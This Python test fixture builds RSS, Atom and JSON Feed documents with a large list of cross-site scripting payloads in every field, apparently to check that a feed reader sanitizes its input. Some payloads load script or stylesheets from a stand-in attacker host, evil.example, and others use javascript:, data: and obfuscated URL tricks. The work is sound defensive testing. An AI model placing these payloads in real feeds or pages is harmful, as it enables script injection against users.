"""Hostile feed content: XSS payloads placed in every field of RSS, Atom and JSON Feed entries.

Every payload tries to run `alert(1)` or set `window.__xss`, so a browser test can tell if any ran.
"""

from __future__ import annotations

import base64
import json
from html import escape

EVENT_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onwheel",
    "onscroll",
    "oninput",
    "onauxclick",
    "onbeforeprint",
]
PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    *[f'<img src="https://evil.example/x.png" {h}="window.__xss=1;alert(1)">' for h in EVENT_HANDLERS],
    '<details open ontoggle="window.__xss=1">x</details>',
    '<input autofocus onfocus="window.__xss=1">',
    '<a href="javascript:window.__xss=1">js link</a>',
    '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
    '<a href=" &#106;avascript:window.__xss=1">entity</a>',
    '<a href="java&#x09;script:window.__xss=1">tab</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="javascript:window.__xss=1">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1) 1x">',
    '<video poster="javascript:window.__xss=1" src="https://v.example/a.mp4"></video>',
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="0" y="10">svg</text></a></svg>',
    '<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">math</maction></math>',
    '<form action="javascript:window.__xss=1"><input type="submit" formaction="javascript:alert(1)"></form>',
    '<button formaction="javascript:window.__xss=1">b</button>',
    '<p style="background:url(javascript:alert(1));position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="javascript:window.__xss=1">',
    '<!--><img src="https://evil.example/x.png" onerror="window.__xss=1">-->',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
    "<template><script>window.__xss=1</script></template>",
    "<img src=x onerror=&#119;indow.__xss=1>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    '<div id="x" tabindex="1" onfocusin="window.__xss=1" autofocus>focus</div>',
    "\u202e<b>reversed</b>\u200b",
]


def rss(payloads: list[str]) -> bytes:
    items = []
    for n, payload in enumerate(payloads):
        text = escape(payload)
        items.append(
            f"<item><title>{text} #{n}</title><link>javascript:window.__xss={n}</link>"
            f'<guid isPermaLink="true">javascript:window.__xss={n}</guid>'
            f"<author>{text}</author><dc:creator>{text}</dc:creator><category>{text}</category><category>openlearning26</category>"
            f"<pubDate>Tue, 08 Sep 2026 10:{n % 60:02d}:00 +0000</pubDate>"
            f'<enclosure url="javascript:window.__xss={n}" type="audio/mpeg" length="1"/>'
            f"<description>{text}</description>"
            f"<content:encoded><![CDATA[<p>Post {n}</p>{payload.replace(']]>', '')}]]></content:encoded></item>"
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>&lt;script&gt;window.__xss=1&lt;/script&gt; RSS</title>'
        f"<link>javascript:alert(1)</link>{''.join(items)}</channel></rss>"
    ).encode()


def atom(payloads: list[str]) -> bytes:
    entries = []
    for n, payload in enumerate(payloads):
        text = escape(payload)
        encoded = base64.b64encode(payload.encode()).decode()
        entries.append(
            f'<entry><title type="html">{text} #{n}</title><id>javascript:alert({n})</id>'
            f'<link rel="alternate" href="https://atom.example/{n}"/><link rel="enclosure" href="javascript:alert({n})"/>'
            f"<author><name>{text}</name><uri>javascript:alert(1)</uri></author>"
            f'<category term="{text}"/><category term="openlearning26"/><updated>2026-09-09T10:{n % 60:02d}:00Z</updated>'
            f'<summary type="html">{text}</summary><content type="application/html" mode="base64">{encoded}</content></entry>'
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title type="html">&lt;img src=x onerror=alert(1)&gt;</title>'
        f"<id>tag:atom.example,2026:feed</id><updated>2026-09-09T10:00:00Z</updated>{''.join(entries)}</feed>"
    ).encode()


def json_feed(payloads: list[str]) -> bytes:
    items = [
        {
            "id": f"javascript:alert({n})",
            "url": f"https://json.example/{n}" if n % 2 else f"javascript:window.__xss={n}",
            "external_url": "javascript:alert(1)",
            "title": f"{payload} #{n}",
            "content_html": payload,
            "summary": payload,
            "image": "javascript:alert(1)",
            "date_published": f"2026-09-10T10:{n % 60:02d}:00Z",
            "tags": [payload, "openlearning26"],
            "authors": [{"name": payload, "url": "javascript:alert(1)", "avatar": "javascript:alert(1)"}],
        }
        for n, payload in enumerate(payloads)
    ]
    return json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "<script>alert(1)</script>",
            "home_page_url": "javascript:alert(1)",
            "icon": "javascript:alert(1)",
            "items": items,
        }
    ).encode()
